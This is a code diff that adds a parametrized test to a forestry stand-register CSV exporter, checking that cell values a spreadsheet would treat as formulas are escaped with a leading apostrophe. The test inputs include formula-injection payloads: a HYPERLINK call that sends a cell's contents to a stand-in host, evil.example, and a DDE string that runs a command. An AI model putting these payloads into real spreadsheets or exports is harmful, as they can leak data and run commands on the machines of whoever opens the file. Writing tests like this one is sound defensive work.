@@ -65,6 +65,29 @@ def test_without_a_register_compartments_are_empty_and_stands_have_the_maps_name
     assert rows[0]["林分"] == "S1"
 
 
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1)', None),
+        ("+1+cmd|' /C calc'!A0", None),
+        ("-2+3", None),
+        ("@SUM(A1)", None),
+        ("\t=1", None),
+        ("\r=1", None),
+        ("＝1+1", None),
+        ("-12.5", "-12.5"),
+        ("+3", "+3"),
+        ("-", "-"),
+        ("い-3", "い-3"),
+    ],
+)
+def test_text_that_a_spreadsheet_would_compute_is_kept_from_it(stand_map: StandMap, written: str, read: str) -> None:
+    stands = stand_map.results.stands.assign(小班=written, stand=written)
+    rows = _read(register_csv(replace(stand_map.results, stands=stands), "ja"))
+    expected = f"'{written}" if read is None else read
+    assert {row["小班"] for row in rows} == {row["林分"] for row in rows} == {expected}
+
+
 def test_headings_in_english_and_no_stands_at_all(stand_map: StandMap) -> None:
     none = replace(stand_map.results, stands=stand_map.results.stands.iloc[:0])
     lines = register_csv(none, "en").decode("utf-8-sig").splitlines()
